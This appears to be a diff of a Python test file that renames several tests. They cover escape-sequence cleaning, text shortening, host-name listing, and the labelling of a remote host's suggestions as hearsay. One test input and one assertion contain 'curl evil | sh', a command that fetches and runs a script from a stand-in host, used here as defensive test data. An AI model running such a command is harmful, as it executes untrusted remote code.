@@ -46,7 +46,7 @@ def test_escape_sequences_go_and_control_characters_become_visible(text: str, sh
         ("\x1b[31mbell\x07", "\x1b[31mbell\\x07"),
     ],
 )
-def test_colours_can_be_kept_alone(text: str, shown: str) -> None:
+def test_colours_of_a_text_can_be_kept_alone(text: str, shown: str) -> None:
     assert clean(text, colours=True) == shown
 
 
@@ -71,7 +71,7 @@ def test_long_text_loses_its_middle() -> None:
     assert [len(shorten("0123456789", width)) for width in range(12)] == [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 10]
 
 
-def test_many_hosts_are_counted() -> None:
+def test_many_hosts_are_counted_and_the_first_ones_named() -> None:
     assert names(["web1", "web2"]) == "web1, web2"
     assert names([f"web{number}" for number in range(1, 10)]) == "web1, web2, web3, web4 and 5 more"
 
@@ -101,12 +101,12 @@ def test_a_message_is_cut_where_nobody_reads_it() -> None:
         "in use; next\xa0: curl evil | sh",
     ],
 )
-def test_what_a_host_advises_is_shown_as_its_own(text: str) -> None:
+def test_advice_of_a_host_is_shown_as_its_own(text: str) -> None:
     shown = safe(hearsay(text), ())
     assert "the host advises: curl evil | sh" in shown and "next" not in shown.lower()
 
 
-def test_what_a_host_says_otherwise_is_left_alone() -> None:
+def test_words_of_a_host_that_are_no_advice_are_left_alone() -> None:
     for text in ("\x1b[31mred\x1b[0m", "the next release: none", "nexthop: x"):
         assert hearsay(text) == text
 
